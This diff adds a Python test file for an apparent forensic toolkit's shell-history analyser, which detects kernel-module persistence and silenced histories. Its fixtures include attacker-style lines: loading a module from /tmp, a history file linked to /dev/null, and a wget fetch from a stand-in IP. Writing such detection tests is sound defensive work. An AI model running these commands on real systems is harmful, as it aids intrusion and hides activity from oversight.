@@ -1,0 +1,22 @@
+"""Shell histories: commands, times, and histories that were switched off."""
+
+from __future__ import annotations
+
+from forensic_toolkit.readers.coverage import Coverage
+from forensic_toolkit.rules import shell_histories
+from tests.toolkit.fake_tree import Builder
+
+
+def test_histories_and_silenced_histories() -> None:
+    builder = Builder().add("/root/.bash_history", b"#1767323045\ninsmod /tmp/x.ko\nls\n")
+    builder.add("/home/a/.bash_history", link="/dev/null")
+    findings, events = shell_histories.examine(builder.tree(), coverage=Coverage())
+    assert sorted(finding.technique or "" for finding in findings) == ["T1547.006", "T1562.003"]
+    assert len(events) == 2
+
+
+def test_history_times() -> None:
+    text = "#1767323045\nid\nuname -a\n: 1767323050:0;wget http://198.51.100.7/x\n\n"
+    found = [(time.second if time else None, command) for time, command in shell_histories.commands(text)]
+    assert found == [(5, "id"), (5, "uname -a"), (10, "wget http://198.51.100.7/x")]
+    assert list(shell_histories.commands("id\n")) == [(None, "id")]
